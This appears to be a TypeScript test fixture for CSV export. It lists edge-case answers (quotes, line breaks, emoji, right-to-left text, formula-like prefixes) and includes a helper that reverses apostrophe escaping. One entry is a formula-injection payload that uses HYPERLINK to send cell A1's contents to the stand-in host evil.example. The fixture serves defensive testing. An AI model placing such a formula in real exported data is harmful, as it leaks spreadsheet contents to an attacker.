/** Answers that break naive CSV writers or that a spreadsheet would run as formulas. */
export const TRICKY_TEXTS = [
  'Commas, "double quotes" and a\nnew line',
  'Windows line end\r\nin the middle',
  'Emoji 😀👍🏽 and a family 👨‍👩‍👧',
  'مرحبا، هذا نص من اليمين إلى اليسار',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+44 116 454 1000',
  '-2+3',
  '@SUM(A1:A9)',
  '\tstarts with a tab',
  '\rstarts with a carriage return',
  '＝1+1 in full-width',
  "'already starts with an apostrophe",
  'An ordinary answer',
]

/** The one leading apostrophe that escaping adds to a cell a spreadsheet would take as a formula. */
export const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/
export const unescapeCell = (cell: string): string =>
  cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell
